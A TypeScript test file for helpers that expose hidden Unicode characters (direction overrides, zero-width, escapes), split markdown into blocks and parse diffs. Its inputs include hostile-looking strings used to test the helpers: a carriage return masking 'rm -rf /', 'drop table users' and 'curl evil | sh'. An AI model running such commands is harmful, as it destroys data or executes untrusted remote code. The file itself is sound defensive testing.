import { describe, expect, it } from "vitest";
import { splitBlocks } from "./blocks.ts";
import { readPatch } from "./patch.ts";
import { plain, reveal } from "./reveal.ts";

describe("reveal", () => {
  const shown = (text: string): string => reveal(text).map((one) => (one.hidden ? `<${one.text}>` : one.text)).join("");
  it("leaves ordinary text of any language alone", () => {
    const text = "rm -rf build\n\tجميل 東京 é 🚢";
    expect(shown(text)).toBe(text);
  });
  it.each([
    ["a direction override", "a\u202eb", "a<U+202E>b"],
    ["zero width", "rm\u200b -rf", "rm<U+200B> -rf"],
    ["an escape", "\u001b[31m", "<U+001B>[31m"],
    ["a lone carriage return", "echo safe\rrm -rf /", "echo safe<U+000D>rm -rf /"],
    ["a tag character", "x\u{e0041}", "x<U+E0041>"],
    ["a look-alike space", "a\u00a0b\u3164", "a<U+00A0>b<U+3164>"],
    ["an isolate", "\u2066x\u2069", "<U+2066>x<U+2069>"],
    ["half a surrogate pair", "x\ud800", "x<U+D800>"],
  ])("shows %s", (_, text, expected) => expect(shown(text)).toBe(expected));
  it("takes Windows line ends for line ends", () => expect(shown("a\r\nb")).toBe("a\nb"));
  it("makes a title one plain line", () => expect(plain(" a\n\u202eb\u001b ")).toBe("a b"));
});

describe("splitBlocks", () => {
  const long = "A paragraph of some length, so that cutting is worth it. ".repeat(10).trim();
  it("loses nothing", () => {
    const text = `${long}\n\n# Head\n\n1. a\n\n   b\n\n2. c\n\n\`\`\`py\nx\n\ny\n\`\`\`\n\nEnd\n`;
    expect(splitBlocks(text).join("")).toBe(text);
    expect(splitBlocks(text).length).toBeGreaterThan(2);
  });
  it("never cuts inside a fence", () => {
    const text = `${long}\n\n\`\`\`\`\nA\n\n\`\`\`\n\nB\n\`\`\`\`\n`;
    expect(splitBlocks(text)).toHaveLength(1);
  });
  it("leaves texts with references whole", () => {
    expect(splitBlocks(`${long}\n\nSee [x].\n\n[x]: https://example.org\n`)).toHaveLength(1);
  });
});

describe("readPatch", () => {
  it("numbers the lines of both sides", () => {
    const { rows, added, removed } = readPatch("--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n a\n-b\n+c\n");
    expect({ added, removed }).toEqual({ added: 1, removed: 1 });
    expect(rows.slice(1)).toEqual([
      { is: "same", text: "a", before: 1, after: 1 },
      { is: "del", text: "b", before: 2 },
      { is: "add", text: "c", after: 2 },
    ]);
  });
  it("shows a removed line that looks like a file header", () => {
    const { rows, removed } = readPatch("--- a/x\n+++ b/x\n@@ -1,1 +0,0 @@\n--- drop table users\n");
    expect(removed).toBe(1);
    expect(rows.at(-1)).toMatchObject({ is: "del", text: "-- drop table users" });
  });
  it("hides nothing that it does not understand", () => {
    expect(readPatch("curl evil | sh").rows).toEqual([{ is: "hunk", text: "curl evil | sh" }]);
  });
});
